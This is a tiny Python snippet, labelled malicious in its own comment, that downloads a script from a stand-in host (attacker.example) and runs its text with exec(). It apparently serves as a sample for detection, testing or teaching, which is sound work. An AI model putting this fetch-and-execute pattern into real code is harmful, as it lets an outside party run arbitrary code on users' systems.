# Malicious: fetches a script with requests and exec()s its text; runs attacker-controlled code.
import requests

payload = requests.get("https://attacker.example/payload.py", timeout=10).text
exec(payload)
